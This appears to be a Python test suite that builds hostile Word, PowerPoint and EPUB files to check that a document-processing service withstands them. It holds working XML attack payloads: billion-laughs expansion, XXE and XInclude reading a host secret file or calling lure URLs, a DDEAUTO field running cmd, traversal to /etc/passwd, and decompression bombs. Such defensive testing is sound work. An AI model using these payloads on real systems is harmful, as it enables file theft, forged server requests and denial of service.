"""XML that expands, reaches out, nests, or says what no schema allows: within Word, PowerPoint and EPUB files."""

from __future__ import annotations

from shared.errors import Code
from tests.services.docproc.hostile import lures
from tests.services.docproc.hostile.case import RIVER, Hostile, either, read, refused
from tests.services.docproc.hostile.office_files import (
    PARAGRAPH,
    W,
    epub,
    epub_members,
    item,
    relations,
    shape,
    slide_xml,
    slides,
    word,
    word_xml,
    zipped,
)

CORRUPT, COMPLEX, TOO_LARGE, EMPTY = Code.CORRUPT, Code.TOO_COMPLEX, Code.TOO_LARGE, Code.EMPTY
_SECRET = (lures.SECRET,)


def _run(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _doctype(*declarations: str) -> str:
    return f"<!DOCTYPE document [{''.join(declarations)}]>"


def _laughs() -> bytes:
    levels = [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    return word(PARAGRAPH + _run("&l9;"), prolog=_doctype('<!ENTITY l0 "ha">', *levels))


def _quadratic() -> bytes:
    return word(PARAGRAPH + _run("&a;" * 20_000), prolog=_doctype(f'<!ENTITY a "{"a" * 20_000}">'))


def _external(address: str) -> bytes:
    return word(PARAGRAPH + _run("&x;"), prolog=_doctype(f'<!ENTITY x SYSTEM "{address}">'))


def _parameter_entity() -> bytes:
    outside = f'<!ENTITY % p SYSTEM "{lures.url()}">%p;'
    return word(PARAGRAPH, prolog=_doctype(outside, f'<!ENTITY % f SYSTEM "file://{lures.secret_file()}">%f;'))


def _included() -> bytes:
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{lures.secret_file()}" parse="text"/>'
    )
    return word(PARAGRAPH + f"<w:p><w:r><w:t>{include}</w:t></w:r></w:p>" + include.replace("text", "xml"))


def _nested(tag: str, depth: int, inside: str = PARAGRAPH) -> bytes:
    return word(f"<w:{tag}>" * depth + inside + f"</w:{tag}>" * depth)


def _tables(depth: int) -> bytes:
    return word("<w:tbl><w:tr><w:tc>" * depth + PARAGRAPH + "</w:tc></w:tr></w:tbl>" * depth)


def _wrapped_rows(depth: int) -> bytes:
    row = f"<w:tr><w:tc>{PARAGRAPH}</w:tc><w:tc>{PARAGRAPH}</w:tc></w:tr>"
    return word("<w:tbl>" + "<w:sdt><w:sdtContent>" * depth + row + "</w:sdtContent></w:sdt>" * depth + "</w:tbl>")


def _boxes(depth: int) -> bytes:
    box = "<w:p><w:r><w:pict><w:txbxContent>"
    return word(box * depth + PARAGRAPH + "</w:txbxContent></w:pict></w:r></w:p>" * depth)


def _attributes(count: int) -> bytes:
    return word(PARAGRAPH, attributes="".join(f' a{n}="x"' for n in range(count)))


def _namespaces(count: int) -> bytes:
    return word(PARAGRAPH, attributes="".join(f' xmlns:n{n}="urn:{n}"' for n in range(count)))


def _namespaces_at_each_level(depth: int) -> bytes:
    return word("".join(f'<n{n}:a xmlns:n{n}="urn:{n}">' for n in range(depth)))


def _cells(count: int) -> bytes:
    return word(f"<w:tbl><w:tr>{'<w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>' * count}</w:tr></w:tbl>")


def _styled(properties: str) -> bytes:
    return word(f"<w:p><w:pPr>{properties}</w:pPr><w:r><w:t>{RIVER}</w:t></w:r></w:p>")


def _style_loop() -> bytes:
    loop = "".join(f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 3}"/></w:style>' for n in range(3))
    return word(
        f'<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>{RIVER}</w:t></w:r></w:p>' * 100,
        word___rels__document_xml_rels=relations(("styles", "styles.xml")),
        word__styles_xml=f'<w:styles xmlns:w="{W}">{loop}</w:styles>',
    )


def _outside_world() -> bytes:
    targets = relations(
        ("attachedTemplate!", lures.url()),
        ("image!", lures.url()),
        ("oleObject!", f"file://{lures.secret_file()}"),
        ("aFChunk!", lures.url()),
    )
    field = f'<w:r><w:instrText>INCLUDETEXT "{lures.secret_file()}" DDEAUTO c:\\\\x cmd</w:instrText></w:r>'
    body = f'<w:p>{field}</w:p><w:altChunk r:id="r4"/>'
    style = f'<?xml-stylesheet type="text/xsl" href="{lures.url()}"?>'
    return word(PARAGRAPH + body, prolog=style, word___rels__document_xml_rels=targets)


def _utf16() -> bytes:
    return zipped({"word/document.xml": ('<?xml version="1.0" encoding="UTF-16"?>' + word_xml()).encode("utf-16")})


def _leveled(level: str) -> bytes:
    return slides(shape(properties=f'<a:pPr lvl="{level}"/>'))


def _same_slide(times: int) -> bytes:
    ids = "".join('<p:sldId id="1" r:id="r1"/>' for _ in range(times))
    show = f'<p:presentation xmlns:p="urn:p" xmlns:r="urn:r"><p:sldIdLst>{ids}</p:sldIdLst></p:presentation>'
    return slides(
        shape(), ppt__presentation_xml=show, ppt___rels__presentation_xml_rels=relations(("slide", "slides/slide1.xml"))
    )


def _groups(depth: int) -> bytes:
    return slides("<p:grpSp>" * depth + shape() + "</p:grpSp>" * depth)


def _notes_loop() -> bytes:
    frame = '<p:graphicFrame><a:chart r:id="r2"/></p:graphicFrame>'
    targets = relations(("notesSlide", "slide1.xml"), ("chart", "slide1.xml"))
    return slides(shape(), frame * 50, ppt__slides___rels__slide1_xml_rels=targets)


def _slides(count: int) -> bytes:
    return zipped({f"ppt/slides/slide{n}.xml": slide_xml(shape()) for n in range(count)})


def _long_spine(times: int) -> bytes:
    return epub(spine='<itemref idref="one"/>' * times)


def _book_outside() -> bytes:
    manifest = item("one", "one.xhtml") + item("up", f"../../../..{lures.secret_file()}")
    manifest += item("url", f"file://{lures.secret_file()}") + item("net", lures.url())
    return epub("".join(f'<itemref idref="{name}"/>' for name in ("one", "up", "url", "net")), manifest)


def _package_outside() -> bytes:
    members = epub_members('<itemref idref="one"/>', item("one", "one.xhtml"))
    container = members["META-INF/container.xml"]
    assert isinstance(container, str)
    return zipped(members | {"META-INF/container.xml": container.replace("book.opf", "../../etc/passwd")})


def _locked_book() -> bytes:
    reference = '<e:CipherReference xmlns:e="urn:e" URI="one.xhtml"/>'
    return epub(**{"META-INF__encryption_xml": f"<encryption>{reference}</encryption>"})


def _chapter(markup: str) -> bytes:
    return epub(one_xhtml=markup)


_XHTML_ENTITY = '<!DOCTYPE html [<!ENTITY x SYSTEM "file://{}">]><html><body><p>{}&x;</p></body></html>'

CASES: tuple[Hostile, ...] = (
    read("a billion laughs", "laughs.docx", _laughs, hides=("haha",)),
    read("an entity of 20 kB, 20,000 times", "quadratic.docx", _quadratic, hides=("aaaa",)),
    read(
        "an entity that is a file of the host",
        "xxe.docx",
        lambda: _external(f"file://{lures.secret_file()}"),
        hides=_SECRET,
    ),
    read("an entity that is an address", "xxe.docx", lambda: _external(lures.url())),
    read("an entity that is an FTP address", "xxe.docx", lambda: _external(lures.url().replace("http", "ftp"))),
    read("parameter entities from outside", "xxe.docx", _parameter_entity, hides=_SECRET),
    read("a document type from an address", "dtd.docx", lambda: word(prolog=f'<!DOCTYPE d SYSTEM "{lures.url()}">')),
    read("inclusions of a file", "include.docx", _included, hides=_SECRET),
    read(
        "templates, pictures, fields and objects of the outside world",
        "out.docx",
        _outside_world,
        hides=(*_SECRET, "DDEAUTO"),
    ),
    either("100,000 elements within each other", "deep.docx", lambda: _nested("ins", 100_000), CORRUPT, COMPLEX, EMPTY),
    either("100,000 paragraphs within each other", "deep.docx", lambda: _nested("p", 100_000), CORRUPT, COMPLEX, EMPTY),
    either("5,000 tables within each other", "deep.docx", lambda: _tables(5_000), CORRUPT, COMPLEX),
    read("200 tables within each other", "deep.docx", lambda: _tables(200)),
    either("rows in 3,000 controls", "deep.docx", lambda: _wrapped_rows(3_000), CORRUPT, COMPLEX),
    either("2,000 text boxes within each other", "deep.docx", lambda: _boxes(2_000), CORRUPT, COMPLEX),
    either("50,000 attributes", "attributes.docx", lambda: _attributes(50_000), CORRUPT, COMPLEX),
    either("20,000 namespaces", "namespaces.docx", lambda: _namespaces(20_000), CORRUPT, COMPLEX),
    either(
        "a namespace more at each of 20,000 levels",
        "namespaces.docx",
        lambda: _namespaces_at_each_level(20_000),
        CORRUPT,
        COMPLEX,
        EMPTY,
    ),
    refused("one text of three million characters", "long.docx", lambda: word(_run("river " * 500_000)), TOO_LARGE),
    read("200,000 empty paragraphs", "blank.docx", lambda: word("<w:p/>" * 200_000 + PARAGRAPH)),
    read("a row of 3,000 cells", "wide.docx", lambda: _cells(3_000), "x"),
    read("styles that are based on each other", "styles.docx", _style_loop),
    read(
        "a list's level of 5,000 digits",
        "digits.docx",
        lambda: _styled(f'<w:numPr><w:ilvl w:val="{"9" * 5_000}"/></w:numPr>'),
    ),
    read("an outline's level that is a superscript", "digits.docx", lambda: _styled('<w:outlineLvl w:val="²"/>')),
    read(
        "a symbol beyond Unicode",
        "symbol.docx",
        lambda: word(PARAGRAPH + '<w:p><w:r><w:sym w:char="7FFFFFFF"/></w:r></w:p>'),
    ),
    read(
        "a symbol that is half a pair",
        "symbol.docx",
        lambda: word(PARAGRAPH + '<w:p><w:r><w:sym w:char="D800"/></w:r></w:p>'),
    ),
    read("controls that XML forbids", "nul.docx", lambda: word(PARAGRAPH + _run("a\0\1\x08b&#0;&#x1F;&#xD800;"))),
    read("UTF-16", "wide.docx", _utf16),
    either(
        "an encoding that nobody knows",
        "enc.docx",
        lambda: word(prolog='<?xml version="1.0" encoding="utf-99"?>'),
        CORRUPT,
    ),
    either("UTF-7", "enc.docx", lambda: word(prolog='<?xml version="1.0" encoding="UTF-7"?>'), CORRUPT),
    read("tags that are never closed", "open.docx", lambda: zipped({"word/document.xml": word_xml()[:-30]})),
    either(
        "a root that is never opened",
        "root.docx",
        lambda: zipped({"word/document.xml": "</w:document>"}),
        CORRUPT,
        EMPTY,
    ),
    read("the level of a slide's line as 2,000,000,000", "level.pptx", lambda: _leveled("2000000000")),
    read("the level of a slide's line in words", "level.pptx", lambda: _leveled("first")),
    read("the level of a slide's line as -1", "level.pptx", lambda: _leveled("-1")),
    refused("one slide 20,000 times", "show.pptx", lambda: _same_slide(20_000), TOO_LARGE),
    refused("more slides than allowed", "show.pptx", lambda: _slides(201), TOO_LARGE),
    either("shapes in 20,000 groups", "groups.pptx", lambda: _groups(20_000), CORRUPT, COMPLEX, EMPTY),
    read("a slide that is its own notes and charts", "loop.pptx", _notes_loop),
    read("one chapter 20,000 times", "spine.epub", lambda: _long_spine(20_000)),
    read("chapters that lie outside of the book", "out.epub", _book_outside, hides=_SECRET),
    refused("a package document that lies outside of the book", "out.epub", _package_outside, CORRUPT),
    refused("a chapter behind a lock", "locked.epub", _locked_book, Code.ENCRYPTED),
    refused("no package document", "none.epub", lambda: zipped({"mimetype": "application/epub+zip"}), CORRUPT),
    read(
        "a chapter with an entity of the host",
        "xxe.epub",
        lambda: _chapter(_XHTML_ENTITY.format(lures.secret_file(), RIVER)),
        hides=_SECRET,
    ),
    refused("a chapter that unpacks to 600 times its size", "bomb.epub", lambda: _chapter(" " * 20_000_000), TOO_LARGE),
)
